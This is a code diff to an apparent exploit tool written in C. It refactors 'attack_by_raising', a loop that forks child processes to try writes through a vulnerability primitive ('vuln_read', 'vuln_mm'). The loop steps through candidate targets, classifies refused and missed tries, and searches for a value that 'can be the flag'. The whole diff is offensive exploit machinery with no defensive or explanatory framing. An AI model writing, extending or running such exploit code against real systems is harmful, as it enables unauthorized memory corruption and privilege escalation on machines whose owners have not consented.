@@ -23,6 +23,9 @@
 
 #include "raise.h"
 
+/* No candidate. */
+#define NONE		(~0U)
+
 /* How a process of a try ends. */
 #define EXIT_DONE	0
 #define EXIT_REFUSED	10	/* the write, with a frame altered */
@@ -118,7 +121,7 @@ static bool try_write(struct raise *r)
 		nanosleep(&pause, NULL);
 		if (vuln_read(r->write.addr) == r->write.value)
 			return true;
-		if (r->refused || r->tried >= candidates())
+		if (r->refused || r->tried == candidates())
 			return false;
 	}
 	return false;
@@ -181,42 +184,50 @@ static void *share(size_t length)
 	return p;
 }
 
+/* Returns the exit status of a process with one try. */
+static int try_in_process(struct raise *r, const char *path)
+{
+	int status;
+	pid_t pid;
+
+	r->tried = NONE;
+	pid = fork();
+	if (pid < 0)
+		die_errno("fork");
+	if (!pid)
+		try_one(r, path);
+	if (waitpid(pid, &status, 0) != pid)
+		die_errno("waitpid");
+	/* A refused write is the end of a process if no place expects faults. */
+	return WIFEXITED(status) ? WEXITSTATUS(status) : EXIT_REFUSED;
+}
+
 int attack_by_raising(const struct raising *way, const char *path)
 {
 	struct raise *r = share(sizeof(*r));
 	unsigned int refused = 0, missed = 0, pass = 0;
-	int status;
-	pid_t pid;
 
 	how = way;
 	r->list = share(way->writes * sizeof(*r->list));
+	r->progress_addr = vuln_mm(r).linear + offsetof(struct raise, progress);
 	if (way->begin)
 		way->begin();
-	r->progress_addr = vuln_mm(r).linear + offsetof(struct raise, progress);
 	while (pass < PASSES) {
-		r->tried = 0;
-		pid = fork();
-		if (pid < 0)
-			die_errno("fork");
-		if (!pid)
-			try_one(r, path);
-		if (waitpid(pid, &status, 0) != pid)
-			die_errno("waitpid");
-		if (WIFEXITED(status) && WEXITSTATUS(status) == EXIT_DONE)
+		int status = try_in_process(r, path);
+
+		if (status == EXIT_DONE)
 			return 0;
-		if (WIFEXITED(status) && WEXITSTATUS(status) == EXIT_MISSED) {
-			if (r->tried >= candidates()) {
-				r->first = 0;
-				pass++;
-			} else if (++missed == MISSES) {
+		if (r->tried == candidates()) {
+			r->first = 0;
+			pass++;
+		} else if (r->tried == NONE || status == EXIT_MISSED) {
+			if (++missed == MISSES)
 				die("no handler was met that waits");
-			}
-			continue;
+		} else {
+			/* Else the word was something that the call needs. */
+			refused += status == EXIT_REFUSED;
+			r->first = r->tried + 1;
 		}
-		if (WIFEXITED(status) && WEXITSTATUS(status) != EXIT_REFUSED)
-			die("a try came to nothing");
-		refused++;
-		r->first = r->tried + 1;
 	}
 	if (!refused)
 		die("no word can be the flag");
